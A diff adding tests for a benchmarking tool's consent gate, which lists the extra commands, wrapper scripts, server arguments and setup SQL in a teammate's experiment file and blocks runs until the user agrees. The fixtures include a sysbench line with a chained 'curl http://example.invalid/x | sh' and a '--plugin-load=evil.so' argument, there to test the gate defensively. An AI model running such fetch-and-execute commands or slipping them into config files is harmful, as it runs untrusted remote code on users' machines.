@@ -1,0 +1,103 @@
+// Teammates' files: what a file would run beyond the built-in tunables is listed, asked once per
+// list of commands and target, and a run refuses to start before the user agreed.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { commandsNeedingConsent } from '../../src/common/trust.js';
+import type { ExperimentDoc } from '../../src/common/experiment/types.js';
+import { createBackend } from '../../src/node/backend.js';
+
+let home: string;
+const quickstart = () => JSON.parse(readFileSync('examples/quickstart.varlab.json', 'utf8')) as ExperimentDoc;
+
+function teammatesFile(): ExperimentDoc {
+  const doc = quickstart();
+  doc.name = "Ana's sysbench run";
+  doc.design.workload.kind = 'command';
+  doc.design.workload.command = { line: 'sysbench oltp_read_only --mysql-socket={socket} run; curl http://example.invalid/x | sh', parser: 'sysbench', metric: 'tps', unit: 'tps', higherIsBetter: true };
+  doc.design.serverProfile = { kind: 'direct', mysqld: '/opt/wrap/start-mysqld.sh', datadir: '/var/lib/mysql', socket: '/run/mysqld/mysqld.sock', port: 3307, user: 'root', extraArgs: ['--init-file=/tmp/init.sql'], sudo: false };
+  return doc;
+}
+
+before(() => {
+  home = mkdtempSync(join(tmpdir(), 'varlab-trust-'));
+  process.env.VARLAB_HOME = home;
+});
+after(() => rmSync(home, { recursive: true, force: true }));
+
+test('everything beyond the built-in tunables is listed with where it is in the file', () => {
+  const items = commandsNeedingConsent(teammatesFile());
+  assert.deepEqual(
+    items.map((i) => [i.kind, i.where]),
+    [
+      ['command', 'design.workload.command.line'],
+      ['setup-sql', 'design.workload.setupSql'],
+      ['start-wrapper', 'design.serverProfile.mysqld'],
+      ['server-args', 'design.serverProfile.extraArgs'],
+    ],
+  );
+  assert.match(items[0].command, /curl http:\/\/example\.invalid\/x \| sh/);
+  const systemd = teammatesFile();
+  systemd.design.serverProfile = { ...systemd.design.serverProfile!, kind: 'systemd', service: 'mariadb@bench', mysqld: '/usr/sbin/mariadbd', extraArgs: [] };
+  assert.deepEqual(commandsNeedingConsent(systemd).map((i) => i.command).slice(-1), ['systemctl restart mariadb@bench']);
+});
+
+test('asked once per list of commands and host: granted for one target, asked again for another or after a change', async () => {
+  const backend = createBackend({ transport: 'websocket' });
+  const file = join(home, 'teammate.varlab.json');
+  writeFileSync(file, JSON.stringify(teammatesFile()));
+  try {
+    let r = await backend.call('trust.check', { path: file });
+    assert.ok(r.ok);
+    assert.equal(r.value.needsConsent, true);
+    assert.equal(r.value.target, 'local');
+    assert.equal(r.value.commands.length, 4);
+
+    // A run refuses to start, naming what it would run.
+    const run = await backend.call('run.start', { path: file });
+    assert.ok(!run.ok);
+    assert.equal(run.code, 'needs-consent');
+    assert.match(run.message, /curl http:\/\/example\.invalid/);
+    assert.match(run.message, /start-mysqld\.sh/);
+
+    assert.ok((await backend.call('trust.grant', { path: file })).ok);
+    r = await backend.call('trust.check', { path: file });
+    assert.ok(r.ok && !r.value.needsConsent, 'granted for local');
+
+    r = await backend.call('trust.check', { path: file, target: 'ssh://bench02' });
+    assert.ok(r.ok && r.value.needsConsent, 'a new host asks again');
+
+    const more = teammatesFile();
+    more.design.restartsPerCell = 20;
+    writeFileSync(file, JSON.stringify(more));
+    r = await backend.call('trust.check', { path: file });
+    assert.ok(r.ok && !r.value.needsConsent, 'more restarts of the same commands do not ask again');
+
+    const changed = teammatesFile();
+    changed.design.serverProfile!.extraArgs.push('--plugin-load=evil.so');
+    writeFileSync(file, JSON.stringify(changed));
+    r = await backend.call('trust.check', { path: file });
+    assert.ok(r.ok && r.value.needsConsent, 'a changed command asks again');
+  } finally {
+    await backend.dispose();
+  }
+});
+
+test('the examples shipped with varlab need no consent, and neither does a file with only built-in tunables', async () => {
+  const backend = createBackend({ transport: 'websocket' });
+  try {
+    const doc = quickstart();
+    doc.design.restartsPerCell = 3;
+    let r = await backend.call('trust.check', { doc });
+    assert.ok(r.ok && !r.value.needsConsent && r.value.commands.length === 1);
+    doc.design.workload.setupSql = '';
+    assert.deepEqual(commandsNeedingConsent(doc), []);
+    doc.design.workload.setupSql = 'CREATE TABLE t (a INT); INSERT INTO t VALUES (1);';
+    r = await backend.call('trust.check', { doc });
+    assert.ok(r.ok && r.value.needsConsent, 'a setup script of its own is asked about');
+  } finally {
+    await backend.dispose();
+  }
+});
